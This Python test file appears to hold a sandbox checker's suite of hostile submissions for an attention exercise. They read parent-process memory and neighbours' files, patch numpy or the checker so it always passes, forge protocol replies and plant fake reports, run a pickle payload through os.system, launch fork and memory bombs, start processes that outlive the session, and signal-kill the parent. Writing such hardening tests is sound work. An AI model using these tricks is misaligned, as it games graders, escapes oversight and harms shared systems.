"""Attacks on the checker, each a small submission whose `attention` is wrong: what it gains, it gains by the attack.

Words in << >> are filled in by the test: <<token>> is what an attack prints when it has done what it should not.
"""

WRONG = """
import numpy as np
def attention(query, key, value, mask=None):
    return 0 * np.asarray(query)
"""

HONEST = """
import numpy as np
def attention(query, key, value, mask=None):
    scores = query @ np.swapaxes(key, -1, -2) / np.sqrt(query.shape[-1])
    weights = np.exp(scores - scores.max(-1, keepdims=True))
    return weights / weights.sum(-1, keepdims=True) @ value
"""

# A submission that knows the protocol: it finds the descriptor and the nonce in the frames above it.
INSIDER = """
import sys, os, struct, json
import numpy as np
def above(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
def say(tree, raw=b"", arrays=None, length=None):
    tree = json.dumps(tree).encode() if not isinstance(tree, bytes) else tree
    count = tree.count(b'"array"') if arrays is None else arrays
    length = len(raw) if length is None else length
    head = struct.pack("<8s16sIIQ", b"attnlab1", above("nonce"), len(tree), count, length)
    os.write(above("replies"), head + tree + raw)
    os._exit(0)
"""


def reply(tree: str, *more: str) -> str:
    """A submission that answers with a message of its own making."""
    return INSIDER + f"def attention(query, key, value, mask=None):\n    say({', '.join((tree, *more))})\n"


def call(body: str) -> str:
    """A submission that does this when it is called."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"import numpy as np, os, sys\ndef attention(query, key, value, mask=None):\n{lines}\n    return 0 * query\n"


STEAL = {
    "answer in the frames": call("""
frame, found = sys._getframe(), []
while frame:
    found += [item for item in frame.f_locals.values() if isinstance(item, np.ndarray)]
    frame = frame.f_back
for item in found:
    if item.shape == query.shape and not any(item is given for given in (query, key, value)):
        return item
"""),
    "answer in the garbage collector": call("""
import gc
mine = (id(query), id(key), id(value))
for item in gc.get_objects():
    for part in (item.values() if type(item) is dict else item if type(item) in (list, tuple) else ()):
        if type(part) is np.ndarray and part.shape == query.shape and id(part) not in mine:
            return part
"""),
    "memory of the parent": call("""
with open("/proc/<<parent>>/mem", "rb", buffering=0) as memory:
    memory.seek(<<address>>)
    print(memory.read(64).decode("ascii", "replace"))
"""),
    "process_vm_readv": call("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
here = ctypes.create_string_buffer(64)
to = (ctypes.c_void_p * 2)(ctypes.addressof(here), 64)
there = (ctypes.c_void_p * 2)(<<address>>, 64)
libc.process_vm_readv(<<parent>>, to, 1, there, 1, 0)
print(here.raw.decode("ascii", "replace"))
"""),
    "ptrace": call("""
import ctypes
if ctypes.CDLL(None, use_errno=True).ptrace(0x4206, <<parent>>, None, None) == 0:
    print("<<token>>")
"""),
    "the model itself": """
import sys, types
sys.path.insert(0, "<<package>>")
try:
    from attention_lab.transformer import attention as model
except ImportError:
    model = lambda *given: (0 * given[0], None)
def attention(query, key, value, mask=None):
    return model(query, key, value)[0]
""",
    "the model's text": """
import numpy as np
attention = lambda query, key, value, mask=None: 0 * query
names = {}
exec(open("<<package>>/attention_lab/transformer.py").read(), names)
def attention(query, key, value, mask=None):
    return names["attention"](query, key, value)[0]
""",
    "neighbour's file": call('print(open("<<beside>>/neighbour.py").read())'),
    "link out of the folder": call('os.symlink("<<beside>>/neighbour.py", "link"); print(open("link").read())'),
    "hard link out of the folder": call('os.link("<<beside>>/neighbour.py", "link"); print(open("link").read())'),
    "open by the working folder": call('os.chdir("<<beside>>"); print(open("neighbour.py").read())'),
    "listing of the neighbours": call('print("<<token>>" if "neighbour.py" in os.listdir("<<beside>>") else "")'),
    "environment": call("""
print([value for name, value in os.environ.items() if "CANARY" in name])
print([pair for pair in open("/proc/self/environ").read().split(chr(0)) if "CANARY" in pair])
"""),
    "environment of the parent": call("""
print([pair for pair in open("/proc/<<parent>>/environ").read().split(chr(0)) if "CANARY" in pair])
"""),
}

LIE = {
    "equal to everything": call("""
class Equal:
    __array_priority__ = 1e9
    shape, dtype, ndim = query.shape, query.dtype, query.ndim
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_ufunc__(self, *given, **more): return True
    def __array_function__(self, *given, **more): return True
    def __bool__(self): return True
    def __sub__(self, other): return 0
    __rsub__ = __sub__
return Equal()
"""),
    "array that lies": call("""
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_ufunc__(self, *given, **more): return np.zeros(self.shape)
    def __array_function__(self, *given, **more): return True
    def __array__(self, *given, **more): return self
    dtype = property(lambda self: np.dtype("f8"))
    shape = property(lambda self: (2, 5, 3))
    def __reduce__(self): return (print, ("<<token>>",))
return (0 * query).view(Liar)
"""),
    "number that lies": call("""
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
return Number(0)
"""),
    "list that never ends": call("""
class Endless(list):
    def __iter__(self):
        while True:
            yield self
return Endless([1])
"""),
    "list inside itself": call("endless = []; endless.append(endless); return endless"),
    "nothing but NaN": call("return np.full(value.shape, np.nan)"),
    "shape that broadcasts": call("return np.float64(0.0)"),
    "patched numpy": """
import numpy as np, builtins
np.allclose = np.array_equal = np.isclose = lambda *given, **more: True
np.testing.assert_allclose = lambda *given, **more: None
np.abs = np.max = lambda *given, **more: 0.0
builtins.abs = builtins.max = lambda *given, **more: 0
def attention(query, key, value, mask=None):
    return 0 * query
""",
    "leave with 0 at once": WRONG + "import os\nos._exit(0)\n",
    "sys.exit": WRONG + "import sys\nsys.exit(0)\n",
    "leave with 0 when called": call("os._exit(0)"),
    "sys.exit when called": call("sys.exit(0)"),
    "frames to every descriptor": """
import os, struct
frame = struct.pack("<8s16sIIQ", b"attnlab1", bytes(16), 15, 0, 0) + b'{"value": true}'
for descriptor in range(256):
    try: os.write(descriptor, frame * 100)
    except OSError: pass
def attention(query, key, value, mask=None):
    return 0 * query
""",
    "frames when asked": call("""
for descriptor in range(3, 256):
    try: os.write(descriptor, b"\\0" * 4096)
    except OSError: pass
"""),
    "answer before it is asked": INSIDER
    + """
tree = b'{"dict": [["value", {"dict": [["definitions", {"list": []}]]}]]}'
os.write(above("replies"), 2 * (struct.pack("<8s16sIIQ", b"attnlab1", above("nonce"), len(tree), 0, 0) + tree))
"""
    + WRONG,
    "pickle": call("""
import pickle
class Bomb:
    def __reduce__(self): return (os.system, ("echo <<token>> > <<beside>>/pickled",))
for descriptor in range(3, 256):
    try: os.write(descriptor, pickle.dumps(Bomb()))
    except OSError: pass
return np.array([Bomb()], dtype=object)
"""),
    "planted reports": call("""
for name in ("report.json", "results.json", "report.xml", "../report.json"):
    for folder in (".", "<<beside>>"):
        try: open(os.path.join(folder, name), "w").write('{"score": 100, "verdict": "right"}')
        except OSError: pass
"""),
    "patched protocol": """
import sys, gc
for name, module in list(sys.modules.items()):
    if name.startswith("check"):
        for key in list(vars(module)):
            if callable(vars(module)[key]):
                setattr(module, key, lambda *given, **more: {"value": True})
def attention(query, key, value, mask=None):
    return 0 * query
""",
    "closed descriptors": call("os.closerange(0, 256)"),
    "swapped descriptors": call("""
for descriptor in range(3, 64):
    try: os.dup2(1, descriptor)
    except OSError: pass
"""),
    "numpy.py of its own": """
import sys
open("numpy.py", "w").write("allclose = lambda *given, **more: True")
sys.path.insert(0, "")
sys.modules.pop("numpy")
import numpy
def attention(query, key, value, mask=None):
    return 0
""",
}

HEADERS = {
    "huge shape": reply('{"dict": [["value", {"array": ["<f8", [2**38, 2**38]]}]]}'),
    "negative shape": reply('{"dict": [["value", {"array": ["<f8", [-1, -2, -3]]}]]}', "bytes(48)"),
    "shape of NaN": reply('b\'{"dict": [["value", {"array": ["<f8", [NaN, Infinity]]}]]}\''),
    "objects": reply('{"dict": [["value", {"array": ["|O", [1]]}]]}', "bytes(8)"),
    "wrong length": reply('{"dict": [["value", {"array": ["<f8", [2]]}]]}', "bytes(8)"),
    "length of a terabyte": reply('{"dict": [["value", {"array": ["<f8", [2**37]]}]]}', "b''", "1", "2**40"),
    "very deep": reply("b'[' * 100_000"),
    "half a message": INSIDER
    + """
def attention(query, key, value, mask=None):
    os.write(above("replies"), struct.pack("<8s16sIIQ", b"attnlab1", above("nonce"), 100, 0, 0) + b"{")
    while True: pass
""",
}

EXHAUST = {
    "endless loop": call("while True: pass"),
    "endless loop that catches all": call("""
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
    "endless loop at the top": "while True: pass\n" + WRONG,
    "busy threads": call("""
import threading
def burn():
    while True: pass
for _ in range(4): threading.Thread(target=burn).start()
burn()
"""),
    "processor time": call("""
import time
while time.process_time() < <<cpu>> + 1: pass
print("<<token>>")
"""),
    "fork bomb": call("""
started = 0
for _ in range(<<processes>> + 8):
    try: pid = os.fork()
    except OSError: continue
    if pid == 0:
        import time; time.sleep(20); os._exit(0)
    started += 1
print("<<token>>" if started > <<processes>> else started)
"""),
    "memory bomb": call("""
hold = [np.zeros(2**25) for _ in range(<<memory>> // 2**28 + 1)]
print("<<token>>")
"""),
    "memory bomb that is touched": call("""
hold = []
try:
    while len(hold) < <<memory>> // 2**24 + 1: hold.append(np.ones(2**21))
except MemoryError: hold = hold[:1]
print("<<token>>" if len(hold) * 2**24 > <<memory>> else "")
"""),
    "one large file": call("""
with open("large", "wb") as stream: stream.truncate(2 * <<file>>)
print("<<token>>")
"""),
    "many files": call("""
for number in range(2 * <<disk>> // <<file>>):
    with open(f"part{number}", "wb") as stream: stream.write(bytes(<<file>> - 1))
print("<<token>>")
"""),
    "files in memory": call("""
hold = []
try:
    while len(hold) * <<file>> < 2 * <<disk>>:
        hold.append(os.memfd_create("hold")); os.write(hold[-1], bytes(<<file>> - 1))
except OSError: pass
print("<<token>>" if len(hold) * <<file>> >= 2 * <<disk>> else "")
"""),
    "huge output": call("""
for _ in range(200): print("x" * 10**5)
sys.__stdout__ and sys.__stdout__.write("y" * 10**6)
os.write(1, b"z" * 10**6)
"""),
    "huge reply": call("return np.zeros(2**18)"),
    "huge error": call('raise ValueError("x" * 10**7)'),
    "error that cannot be told": call("""
class Mute(Exception):
    def __str__(self):
        while True: pass
raise Mute
"""),
    "deep recursion": call("""
sys.setrecursionlimit(10**9)
def down(): return down()
down()
"""),
    "deep folders": call("""
try:
    for _ in range(2000): os.mkdir("d"); os.chdir("d")
    os.chmod(".", 0)
except OSError: pass
"""),
    "sleep in __del__ and atexit": """
import atexit, time
class Slow:
    def __del__(self): time.sleep(60)
slow = Slow()
atexit.register(time.sleep, 60)
"""
    + WRONG,
    "signal handlers": """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
"""
    + call("while True: pass"),
}

ESCAPE = {
    "survivor": call("""
import signal, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try: signal.signal(number, signal.SIG_IGN)
            except OSError: pass
        os.closerange(0, 256)
        time.sleep(20)
    os._exit(0)
os.waitpid(pid, 0)
"""),
    "survivor by exec": call('os.posix_spawn("/bin/sleep", ["sleep", "20", "<<marker>>"], {}, setsid=True)'),
    "socket": call("""
import socket
it = socket.create_connection(("127.0.0.1", <<port>>), timeout=1)
it.sendall(b"<<token>>"); print("<<token>>")
"""),
    "signal to the parent": call("os.kill(<<parent>>, 10)"),
    "signal to everybody": call("os.kill(os.getppid(), 9); os.killpg(os.getpgid(os.getppid()), 9)"),
    "signal by way of a pipe": call("""
import fcntl
back, to = os.pipe()
fcntl.fcntl(back, 8, os.getpid()); fcntl.fcntl(back, 8, <<parent>>); fcntl.fcntl(back, 10, 10)
fcntl.fcntl(back, fcntl.F_SETFL, 0o20000 | os.O_NONBLOCK)
os.write(to, b"x"); print("<<token>>")
"""),
    "lease that lets others wait for NumPy": call("""
import fcntl
file = os.open(np.__file__, os.O_RDONLY)
fcntl.fcntl(file, 1024, fcntl.F_WRLCK); print("<<token>>")
"""),
    "lock that lets others wait for NumPy": call("""
import fcntl
fcntl.flock(os.open(np.__file__, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB); print("<<token>>")
"""),
    "news of what others open": call("""
import fcntl
fcntl.fcntl(os.open(os.path.dirname(np.__file__), os.O_RDONLY), 1026, 1); print("<<token>>")
"""),
    "flags of a file that may only be read": call("""
import fcntl
file, flags = os.open(np.__file__, os.O_RDONLY), bytearray(8)
fcntl.ioctl(file, 0x80086601, flags); fcntl.ioctl(file, 0x40086602, bytes(flags)); print("<<token>>")
"""),
    "less time for everybody": call("os.setpriority(os.PRIO_USER, os.getuid(), 19); print('<<token>>')"),
    "one processor for the parent": call("os.sched_setaffinity(<<parent>>, [0]); print('<<token>>')"),
    "file outside": call('open("<<beside>>/made", "w").write("here")'),
    "overwritten file": call('open("<<beside>>/neighbour.py", "w").write("print(1)")'),
    "deleted file": call('os.remove("<<beside>>/neighbour.py")'),
    "renamed file": call('os.rename("<<beside>>/neighbour.py", "<<beside>>/other.py")'),
    "file for all to write": call('os.chmod("<<beside>>/neighbour.py", 0o777)'),
    "older file": call('os.utime("<<beside>>/neighbour.py", (0, 0))'),
    "out of the folder by ..": call('open("../../" + "<<marker>>", "w").write("here")'),
    "new namespaces": call("""
import ctypes
if ctypes.CDLL(None, use_errno=True).unshare(0x10020000) == 0: print("<<token>>")
"""),
    "escapes that are printed": call('print("\\x1b]0;owned\\x07\\x1b[2J\\u202e\\x9b31m\\r\\b")'),
    "escapes in an error": call('raise type("\\x1b[31mError", (Exception,), {})("\\x1b[2J\\u202e\\x00")'),
    "escapes in a name": """
import numpy as np
def function(query): return query
globals()["\\x1b[2Jattention"] = function
function.__module__ = __name__
raise KeyError("\\x1b[2J")
"""
    + WRONG,
}

ATTACKS = STEAL | LIE | {f"header: {name}": text for name, text in HEADERS.items()} | EXHAUST | ESCAPE
